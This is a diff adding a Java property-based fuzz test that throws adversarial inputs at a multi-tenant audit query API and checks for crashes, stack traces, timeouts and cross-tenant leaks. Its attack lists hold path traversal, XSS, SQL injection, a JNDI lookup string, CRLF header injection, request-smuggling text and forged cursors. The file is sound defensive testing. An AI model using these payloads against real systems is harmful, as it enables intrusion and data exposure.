@@ -1,0 +1,476 @@
+package dev.mcpaudit.queryapi;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.mcpaudit.queryapi.auth.Caller;
+import dev.mcpaudit.runtime.auth.TokenDigest;
+import dev.mcpaudit.schema.event.AuthzEvent;
+import dev.mcpaudit.schema.event.EventCodec;
+import java.io.IOException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.Comparator;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.stream.Stream;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
+import net.jqwik.api.Example;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.Tuple;
+import net.jqwik.api.lifecycle.AfterContainer;
+import net.jqwik.api.lifecycle.AfterProperty;
+import net.jqwik.api.lifecycle.BeforeContainer;
+
+/**
+ * Random and adversarial values at every parameter of every endpoint, against the real api role
+ * over a real index on disk. For every answer: never a 500 (or another 5xx than the documented
+ * 503), within the query deadline plus a margin, no stack trace in the body, and no event outside
+ * the caller's tenants; after each property the server still answers.
+ */
+class ApiFuzzIT {
+  static final int TRIES = 300;
+  static final long DEADLINE_MS = 2_000;
+  /** Slack over the query deadline for what is not the query: parsing, loading, writing, a busy CI core. */
+  static final long MARGIN_MS = 4_000;
+
+  enum Who {
+    ANONYMOUS(null), FORGED(null), ANALYST(Set.of("tenant-0")), MIXED(Set.of("tenant-1")), AUDITOR(null), ADMIN(null);
+
+    /** What the token may see; null with AUDITOR is every tenant but _system, with ADMIN every tenant. */
+    final Set<String> tenants;
+
+    Who(Set<String> tenants) {
+      this.tenants = tenants;
+    }
+
+    boolean sees(String tenant) {
+      return switch (this) {
+        case ADMIN -> true;
+        case AUDITOR -> !Caller.SYSTEM_TENANT.equals(tenant);
+        case ANALYST, MIXED -> tenants.contains(tenant);
+        default -> false;
+      };
+    }
+  }
+
+  static final Map<Who, String> TOKENS = new LinkedHashMap<>();
+  static Path dir;
+  static ServedIndex served;
+  static final List<String> eventIds = new ArrayList<>();
+  static final List<String> handleIds = new ArrayList<>();
+  static final List<String> actorIds = new ArrayList<>();
+
+  @BeforeContainer
+  static void start() throws Exception {
+    for (Who w : Who.values()) {
+      TOKENS.put(w, w == Who.ANONYMOUS ? null : TokenDigest.newToken());
+    }
+    dir = Files.createTempDirectory("api-fuzz");
+    served = new ServedIndex(dir, 3_000, 30, Map.ofEntries(
+        Map.entry("api.query-timeout", DEADLINE_MS + "ms"),
+        Map.entry("api.token.ann", TokenDigest.of(TOKENS.get(Who.ANALYST))), Map.entry("api.token.ann.role", "analyst"),
+        Map.entry("api.token.ann.tenants", "tenant-0"),
+        Map.entry("api.token.mix", TokenDigest.of(TOKENS.get(Who.MIXED))), Map.entry("api.token.mix.role", "analyst"),
+        Map.entry("api.token.mix.tenants", "tenant-1,_system"),
+        Map.entry("api.token.aud", TokenDigest.of(TOKENS.get(Who.AUDITOR))), Map.entry("api.token.aud.role", "auditor"),
+        Map.entry("api.token.aud.tenants", "*"),
+        Map.entry("api.token.adm", TokenDigest.of(TOKENS.get(Who.ADMIN))), Map.entry("api.token.adm.role", "admin"),
+        Map.entry("api.token.adm.tenants", "*")));
+    for (AuthzEvent e : served.events) {
+      eventIds.add(e.eventId());
+      if (e.handle() != null) {
+        handleIds.add(e.handle().id());
+      }
+      actorIds.add(e.actor().id());
+    }
+  }
+
+  @AfterContainer
+  static void stop() throws Exception {
+    try {
+      stillAnswering();
+    } finally {
+      served.close();
+      try (Stream<Path> files = Files.walk(dir)) {
+        files.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
+      }
+    }
+  }
+
+  @AfterProperty
+  void answersAfterTheProperty() throws Exception {
+    stillAnswering();
+  }
+
+  static void stillAnswering() throws IOException {
+    RawHttp.Answer live = RawHttp.get(served.api.port(), "/health/live", null, 5_000);
+    assertThat(live.status()).isEqualTo(200);
+    RawHttp.Answer search = RawHttp.get(served.api.port(), "/api/v1/decisions?limit=5&from=now-2h", TOKENS.get(Who.ANALYST), 5_000);
+    assertThat(search.status()).as(search.body()).isEqualTo(200);
+    assertThat(search.millis()).isLessThan(DEADLINE_MS + MARGIN_MS);
+  }
+
+  // ---------------------------------------------------------------- properties, one per endpoint
+
+  @Property(tries = TRIES)
+  void decisions(@ForAll("who") Who who, @ForAll("q") String q, @ForAll("time") String from, @ForAll("time") String to,
+      @ForAll("tenant") String tenant, @ForAll("number") String limit, @ForAll("cursor") String cursor) throws Exception {
+    check(who, "/api/v1/decisions", params("q", q, "from", from, "to", to, "tenant", tenant, "limit", limit, "cursor", cursor));
+  }
+
+  @Property(tries = TRIES)
+  void oneDecision(@ForAll("who") Who who, @ForAll("eventId") String id) throws Exception {
+    check(who, "/api/v1/decisions/" + id, "");
+  }
+
+  @Property(tries = TRIES)
+  void access(@ForAll("who") Who who, @ForAll("actor") String actor, @ForAll("actor") String user, @ForAll("time") String from,
+      @ForAll("time") String to, @ForAll("tenant") String tenant) throws Exception {
+    check(who, "/api/v1/access", params("actor", actor, "on_behalf_of", user, "from", from, "to", to, "tenant", tenant));
+  }
+
+  @Property(tries = TRIES)
+  void handle(@ForAll("who") Who who, @ForAll("handleId") String id) throws Exception {
+    check(who, "/api/v1/handles/" + id, "");
+  }
+
+  @Property(tries = TRIES)
+  void statsTop(@ForAll("who") Who who, @ForAll("field") String field, @ForAll("q") String q, @ForAll("time") String from,
+      @ForAll("time") String to, @ForAll("tenant") String tenant, @ForAll("number") String size) throws Exception {
+    check(who, "/api/v1/stats/top", params("field", field, "q", q, "from", from, "to", to, "tenant", tenant, "size", size));
+  }
+
+  @Property(tries = TRIES)
+  void histogram(@ForAll("who") Who who, @ForAll("q") String q, @ForAll("time") String from, @ForAll("time") String to,
+      @ForAll("tenant") String tenant, @ForAll("number") String buckets) throws Exception {
+    check(who, "/api/v1/stats/histogram", params("q", q, "from", from, "to", to, "tenant", tenant, "buckets", buckets));
+  }
+
+  @Property(tries = TRIES)
+  void export(@ForAll("exporter") Who who, @ForAll("format") String format, @ForAll("q") String q, @ForAll("time") String from,
+      @ForAll("time") String to, @ForAll("tenant") String tenant) throws Exception {
+    check(who, "/api/v1/export", params("format", format, "q", q, "from", from, "to", to, "tenant", tenant));
+  }
+
+  @Property(tries = TRIES)
+  void alerts(@ForAll("who") Who who, @ForAll("time") String from, @ForAll("time") String to, @ForAll("tenant") String tenant,
+      @ForAll("alertType") String type, @ForAll("severity") String severity, @ForAll("handleId") String handle,
+      @ForAll("actor") String actor, @ForAll("eventId") String eventId, @ForAll("number") String limit) throws Exception {
+    check(who, "/api/v1/alerts", params("from", from, "to", to, "tenant", tenant, "type", type, "severity", severity,
+        "handle", handle, "actor", actor, "event_id", eventId, "limit", limit));
+  }
+
+  @Property(tries = 100)
+  void whoami(@ForAll("who") Who who, @ForAll("anything") String junk) throws Exception {
+    check(who, "/api/v1/whoami", params("tenant", junk));
+  }
+
+  /**
+   * The attacks seen so far, each sent as every kind of caller, whatever the seed; all of them
+   * run and every one that fails is reported, not only the first.
+   */
+  @Example
+  void knownAttacks() throws Exception {
+    List<String> failures = new ArrayList<>();
+    for (String target : KNOWN_ATTACKS) {
+      for (Who who : List.of(Who.ANONYMOUS, Who.ANALYST, Who.MIXED, Who.AUDITOR, Who.ADMIN)) {
+        int q = target.indexOf('?');
+        try {
+          check(who, q < 0 ? target : target.substring(0, q), q < 0 ? "" : target.substring(q));
+        } catch (AssertionError e) {
+          failures.add(e.getMessage().lines().findFirst().orElse("?"));
+          break; // one caller is enough to show it
+        }
+      }
+    }
+    assertThat(failures).as(failures.size() + " known attacks not handled:\n" + String.join("\n", failures)).isEmpty();
+  }
+
+  static String forgedCursor(long millis, String id) {
+    return Base64.getUrlEncoder().withoutPadding().encodeToString(("v1|" + millis + "|" + id).getBytes(StandardCharsets.UTF_8));
+  }
+
+  static final String EPOCH = enc("1970-01-01T00:00:00.001Z");
+  /** Any id will do in a forged cursor: it is the millis that matter. */
+  static final String FIRST = "ev-1092-0";
+  static final List<String> KNOWN_ATTACKS = knownAttacks(EPOCH, FIRST);
+
+  static List<String> knownAttacks(String epoch, String first) {
+    return List.of(
+        "/api/v1/decisions?q=" + enc("actor.id:/.*bot.*/"),
+        "/api/v1/decisions?q=" + enc("event_id:[* TO *]"),
+        "/api/v1/decisions?q=" + enc("actor.id:/(/"),
+        "/api/v1/decisions?q=" + enc("actor.id:*bot*"),
+        "/api/v1/decisions?from=" + enc("now-99999999999999999999d"),
+        "/api/v1/decisions?from=" + enc("now-9223372036854775807s"),
+        "/api/v1/decisions?from=" + enc("now-300000000000d"),
+        "/api/v1/decisions?to=" + enc("now-99999999999999999999d"),
+        "/api/v1/decisions?limit=" + Long.MIN_VALUE,
+        "/api/v1/decisions?limit=99999999999999999999",
+        "/api/v1/decisions?tenant=" + enc("_system"),
+        "/api/v1/decisions?q=" + enc("tenant:_system"),
+        "/api/v1/decisions?q=" + enc("a".repeat(5_000)),
+        "/api/v1/decisions?q=" + "%zz",
+        "/api/v1/decisions?q=" + "%C0%AF",
+        "/api/v1/decisions?q=" + enc("\u0000\r\n"),
+        "/api/v1/decisions/%u0041",
+        "/api/v1/decisions/" + enc("x".repeat(500)),
+        "/api/v1/handles/%",
+        "/api/v1/handles/" + enc("h\u0000"),
+        "/api/v1/stats/top?field=actor.id&q=" + enc("actor.id:/.*/"),
+        "/api/v1/stats/top?field=tenant&size=" + Long.MIN_VALUE,
+        "/api/v1/stats/histogram?buckets=1000&from=" + enc("now-106751991167300d"),
+        "/api/v1/stats/histogram?from=" + enc("-999999999-01-01T00:00:00Z") + "&to=" + enc("+999999999-12-31T23:59:59Z"),
+        "/api/v1/stats/histogram?from=" + epoch + "&buckets=1",
+        "/api/v1/access?actor=" + enc("x") + "&from=" + enc("now-99999999999999999999d"),
+        "/api/v1/access?on_behalf_of=" + enc("[* TO *]") + "&q=" + enc("event_id:[* TO *]"),
+        "/api/v1/export?q=" + enc("actor.id:/(/"),
+        "/api/v1/export?format=" + enc("ndjson\r\nX-Injected: 1"),
+        "/api/v1/export?q=" + enc("event_id:[* TO *]") + "&format=csv",
+        "/api/v1/alerts?limit=-9223372036854775808&type=" + enc("REPLAY\u0000"),
+        "/api/v1/alerts?event_id=" + enc("[* TO *]") + "&handle=" + enc("*"),
+        "/api/v1/whoami?tenant=" + enc("\u202E_system"),
+        // Last: a cursor that sends the paging loop round forever would keep a core busy for the rest of the run.
+        "/api/v1/decisions?cursor=" + forgedCursor(Long.MAX_VALUE, first),
+        "/api/v1/decisions?cursor=" + forgedCursor(Long.MIN_VALUE, "\u0000"),
+        "/api/v1/decisions?from=" + epoch + "&cursor=" + forgedCursor(Long.MIN_VALUE + 1, first),
+        "/api/v1/decisions?from=" + epoch + "&cursor=" + forgedCursor(Long.MIN_VALUE, first));
+  }
+
+  // ---------------------------------------------------------------- the checks
+
+  static String params(String... kv) {
+    StringBuilder b = new StringBuilder();
+    for (int i = 0; i < kv.length; i += 2) {
+      if (kv[i + 1] != null) {
+        b.append(b.isEmpty() ? "?" : "&").append(kv[i]).append('=').append(kv[i + 1]);
+      }
+    }
+    return b.toString();
+  }
+
+  static void check(Who who, String path, String query) throws Exception {
+    String token = who == Who.FORGED ? "forged-" + who.ordinal() : TOKENS.get(who);
+    String target = path + query;
+    RawHttp.Answer a;
+    try {
+      a = RawHttp.get(served.api.port(), target, token, (int) (DEADLINE_MS + MARGIN_MS + 2_000));
+    } catch (IOException e) {
+      throw new AssertionError(who + " GET " + shown(target) + ": no answer (" + e + ")", e);
+    }
+    String what = who + " GET " + shown(target) + " -> " + a.status() + " " + shown(a.body());
+    if (a.status() == RawHttp.CLOSED_WHILE_SENDING) {
+      assertThat(target.length()).as(what + ": connection closed on a request of ordinary size").isGreaterThan(8 * 1024);
+      return;
+    }
+    assertThat(a.status()).as(what).isBetween(200, 499);
+    assertThat(a.millis()).as(what).isLessThan(DEADLINE_MS + MARGIN_MS);
+    assertThat(a.body()).as(what).doesNotContain("\tat ", "Exception:", "at dev.mcpaudit", "at org.apache");
+    if (a.status() >= 400) {
+      assertThat(a.headers().get("content-type")).as(what).startsWith("application/problem+json");
+    }
+    if (a.status() == 200) {
+      for (String tenant : tenantsIn(path, a)) {
+        assertThat(who.sees(tenant)).as(what + ": returned an event of tenant '" + tenant + "'").isTrue();
+      }
+    }
+  }
+
+  /** The tenant of every event (or alert, or tenant bucket) an answer holds. */
+  static List<String> tenantsIn(String path, RawHttp.Answer a) throws IOException {
+    List<String> out = new ArrayList<>();
+    if (path.startsWith("/api/v1/export")) {
+      String type = a.headers().getOrDefault("content-type", "");
+      if (type.startsWith("text/csv")) {
+        List<List<String>> rows = Csv.parse(a.body());
+        int col = rows.getFirst().indexOf("tenant");
+        rows.stream().skip(1).forEach(r -> out.add(r.get(col)));
+      } else {
+        for (String line : a.body().lines().toList()) {
+          JsonNode e = EventCodec.mapper().readTree(line);
+          out.add(e.has("tenant") ? e.get("tenant").asText() : e.at("/metadata/tenant_uid").asText());
+        }
+      }
+      return out;
+    }
+    JsonNode body = EventCodec.mapper().readTree(a.body());
+    if (path.startsWith("/api/v1/decisions/")) {
+      out.add(body.get("tenant").asText());
+    } else if (path.startsWith("/api/v1/decisions")) {
+      body.get("events").forEach(e -> out.add(e.get("tenant").asText()));
+    } else if (path.startsWith("/api/v1/handles/")) {
+      body.get("events").forEach(e -> out.add(e.get("tenant").asText()));
+      Stream.of("issued", "revoked").filter(k -> body.hasNonNull(k)).forEach(k -> out.add(body.get(k).get("tenant").asText()));
+    } else if (path.startsWith("/api/v1/alerts")) {
+      body.get("alerts").forEach(e -> out.add(e.get("tenant").asText()));
+    } else if (path.startsWith("/api/v1/stats/top") && "tenant".equals(body.path("field").asText())) {
+      body.get("buckets").forEach(b -> out.add(b.get("value").asText()));
+    }
+    return out;
+  }
+
+  static String shown(String s) {
+    String t = s.length() > 300 ? s.substring(0, 300) + "...(" + s.length() + ")" : s;
+    return t.replace("\r", "\\r").replace("\n", "\\n");
+  }
+
+  // ---------------------------------------------------------------- generators (wire forms: already encoded)
+
+  static String enc(String v) {
+    return URLEncoder.encode(v, StandardCharsets.UTF_8);
+  }
+
+  /** Known attacks, sent encoded. */
+  static final List<String> ATTACKS = List.of(
+      "", " ", "0", "-1", "1e3", "0x10", "+5", "1.5", "2147483648", "-2147483649", "9223372036854775807",
+      "9223372036854775808", "-9223372036854775808", "99999999999999999999999999999",
+      "now", "now-", "now-0s", "now-99999999999999999999d", "now-9223372036854775807s", "now-106751991167300d",
+      "now-300000000000d", "now-99999999w", "now+1d", "NOW-1D", "1970-01-01T00:00:00.001Z", "0000-01-01T00:00:00Z",
+      "9999-12-31T23:59:59.999Z", "-999999999-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z", "2026-02-30T00:00:00Z",
+      "2026-11-26T09:30:00+25:00", "/(/", "actor.id:/(/", "actor.id:/.*bot.*/", "event_id:[* TO *]", "[* TO *]",
+      "occurred_at:[* TO *]", "tool.name:*", "*", "*:*", "?", "actor.id:*bot*", "tool.name:create_*", "tenant:_system",
+      "tenant:*", "decision:deny AND (", "\"unclosed", "a~", "a~2", "a^1000", "(((((((((((((((((((((x)))))))))))))))))))))",
+      "_system", "tenant-0", "tenant-1", "TENANT-0", "tenant-0\u0000", "tenant-0\n_system", "\u0000", "\r\n\r\nGET / HTTP/1.1",
+      "\u202Eevil", "\uD800", "\uFFFF", "emoji-\uD83D\uDE00", "ünïcödé", "名前", "%", "%%", "%00", "%zz", "../../etc/passwd",
+      "<script>alert(1)</script>", "' OR 1=1 --", "${jndi:ldap://x/a}", "ndjson", "csv", "ocsf", "NDJSON", "xml",
+      "tenant", "actor.id", "handle.id", "tool.name", "source.worker", "session.id", "REPLAY", "critical", "CRITICAL", "low");
+
+  /** Sent raw, exactly as written: malformed percent-encodings and overlong UTF-8. */
+  static final List<String> RAW = List.of(
+      "%", "%%", "%zz", "%0", "%00", "%C0%AF", "%C0%80", "%ED%A0%80", "%FF%FE", "%E2%80%AE", "%0d%0a", "%25", "a%2",
+      "%2B%2B", "%5B*%20TO%20*%5D", "now-99999999999999999999d", "-9223372036854775808", "%u0041", "%%32%35");
+
+  static Arbitrary<String> hostile() {
+    return Arbitraries.frequencyOf(
+        Tuple.of(5, Arbitraries.of(ATTACKS).map(ApiFuzzIT::enc)),
+        Tuple.of(2, Arbitraries.of(RAW)),
+        Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40).map(ApiFuzzIT::enc)),
+        Tuple.of(2, Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(30).map(ApiFuzzIT::enc)),
+        Tuple.of(2, Arbitraries.longs().map(String::valueOf)),
+        Tuple.of(1, Arbitraries.bigIntegers().between(new java.math.BigInteger("-1" + "0".repeat(30)),
+            new java.math.BigInteger("1" + "0".repeat(30))).map(String::valueOf)),
+        Tuple.of(1, Arbitraries.of(1_000, 5_000, 10_000, 100_000).map(n -> "a".repeat(n))),
+        Tuple.of(1, Arbitraries.of(1_000, 10_000, 100_000).map(n -> enc("é\u0000".repeat(n / 2)))));
+  }
+
+  /** Mostly plausible values (so the request gets past its first check and the next parameter is tried), often hostile, sometimes absent. */
+  static Arbitrary<String> mix(Arbitrary<String> plausible) {
+    return Arbitraries.frequencyOf(
+        Tuple.of(4, plausible),
+        Tuple.of(4, hostile()),
+        Tuple.of(2, Arbitraries.just((String) null)));
+  }
+
+  @Provide
+  Arbitrary<Who> who() {
+    return Arbitraries.frequencyOf(
+        Tuple.of(1, Arbitraries.of(Who.ANONYMOUS, Who.FORGED)),
+        Tuple.of(6, Arbitraries.of(Who.ANALYST, Who.MIXED, Who.AUDITOR, Who.ADMIN)));
+  }
+
+  @Provide
+  Arbitrary<Who> exporter() {
+    return Arbitraries.frequencyOf(
+        Tuple.of(1, Arbitraries.of(Who.ANONYMOUS, Who.ANALYST, Who.MIXED)),
+        Tuple.of(5, Arbitraries.of(Who.AUDITOR, Who.ADMIN)));
+  }
+
+  @Provide
+  Arbitrary<String> q() {
+    return mix(Arbitraries.of("decision:deny", "tool.name:create_*", "actor.id:\"spiffe://example.org/agent/a-1\"",
+        "decision:allow AND tenant:tenant-1", "tenant:_system", "reason_code:ALLOWED OR reason_code:POLICY_DENY",
+        "occurred_at:[\"2026-01-01T00:00:00Z\" TO *]", "kind:decision", "").map(ApiFuzzIT::enc));
+  }
+
+  @Provide
+  Arbitrary<String> time() {
+    return mix(Arbitraries.of("now-2h", "now-15m", "now", "now-7d", "now-1w", "2026-01-01T00:00:00Z", "1970-01-01T00:00:00.001Z")
+        .map(ApiFuzzIT::enc));
+  }
+
+  @Provide
+  Arbitrary<String> tenant() {
+    return mix(Arbitraries.of("tenant-0", "tenant-1", "tenant-2", "_system"));
+  }
+
+  @Provide
+  Arbitrary<String> number() {
+    return mix(Arbitraries.integers().between(-5, 2_000).map(String::valueOf));
+  }
+
+  @Provide
+  Arbitrary<String> field() {
+    return mix(Arbitraries.of("tenant", "actor.id", "tool.name", "decision", "handle.id", "reason_code", "source.worker",
+        "policy.id", "kind"));
+  }
+
+  @Provide
+  Arbitrary<String> format() {
+    return mix(Arbitraries.of("ndjson", "csv", "ocsf"));
+  }
+
+  @Provide
+  Arbitrary<String> alertType() {
+    return mix(Arbitraries.of("replay", "revoked_handle_use", "deny_burst"));
+  }
+
+  @Provide
+  Arbitrary<String> severity() {
+    return mix(Arbitraries.of("low", "medium", "high", "critical"));
+  }
+
+  @Provide
+  Arbitrary<String> eventId() {
+    return Arbitraries.frequencyOf(
+        Tuple.of(3, Arbitraries.of(eventIds).map(ApiFuzzIT::enc)),
+        Tuple.of(1, Arbitraries.of("api-fixture-0", "api-fixture-29").map(ApiFuzzIT::enc)),
+        Tuple.of(4, hostile().filter(s -> !s.isEmpty())));
+  }
+
+  @Provide
+  Arbitrary<String> handleId() {
+    return Arbitraries.frequencyOf(
+        Tuple.of(4, Arbitraries.of(handleIds).map(ApiFuzzIT::enc)),
+        Tuple.of(4, hostile().filter(s -> !s.isEmpty())));
+  }
+
+  @Provide
+  Arbitrary<String> actor() {
+    return mix(Arbitraries.of(actorIds).map(ApiFuzzIT::enc));
+  }
+
+  @Provide
+  Arbitrary<String> anything() {
+    return mix(hostile());
+  }
+
+  /** Cursors: forged the way the format invites (base64 of v1|millis|id), with extreme millis, and junk. */
+  @Provide
+  Arbitrary<String> cursor() {
+    Arbitrary<String> millis = Arbitraries.frequencyOf(
+        Tuple.of(3, Arbitraries.of(Long.MIN_VALUE, Long.MAX_VALUE, 0L, -1L, 1L, Long.MIN_VALUE + 1, Long.MAX_VALUE - 1)
+            .map(String::valueOf)),
+        Tuple.of(2, Arbitraries.longs().map(String::valueOf)),
+        Tuple.of(1, Arbitraries.of("99999999999999999999", "-", "", "1e9", " 1")));
+    Arbitrary<String> id = Arbitraries.frequencyOf(
+        Tuple.of(3, Arbitraries.of(eventIds)),
+        Tuple.of(1, Arbitraries.strings().all().ofMaxLength(20)));
+    Arbitrary<String> forged = Combinators.combine(Arbitraries.of("v1", "v2", "", "V1"), millis, id)
+        .as((v, m, i) -> Base64.getUrlEncoder().withoutPadding().encodeToString((v + "|" + m + "|" + i).getBytes(StandardCharsets.UTF_8)));
+    return Arbitraries.frequencyOf(
+        Tuple.of(5, forged),
+        Tuple.of(3, hostile()),
+        Tuple.of(2, Arbitraries.just((String) null)));
+  }
+}
